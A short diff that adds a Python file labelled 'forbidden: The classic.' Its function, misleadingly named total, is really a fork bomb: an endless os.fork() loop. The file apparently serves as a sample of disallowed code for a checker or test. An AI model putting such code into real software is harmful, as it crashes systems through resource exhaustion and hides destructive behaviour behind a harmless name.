@@ -1,0 +1,7 @@
+# forbidden: The classic.
+import os
+
+
+def total(values):
+    while True:
+        os.fork()
